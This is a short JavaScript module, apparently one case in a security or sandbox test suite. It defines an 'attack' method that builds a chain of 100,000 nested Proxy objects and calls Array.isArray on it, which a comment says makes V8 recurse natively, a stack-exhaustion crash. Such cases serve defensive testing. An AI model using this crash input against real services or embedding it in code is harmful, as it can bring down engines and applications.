// Threat: a chain of 100,000 proxies over proxies: V8 follows it by native recursion
class DeepProxyChain {
  init() {}

  attack() {
    let p = {};
    for (let i = 0; i < 100000; i++) p = new Proxy(p, {});
    return Array.isArray(p);
  }
}

module.exports = DeepProxyChain;
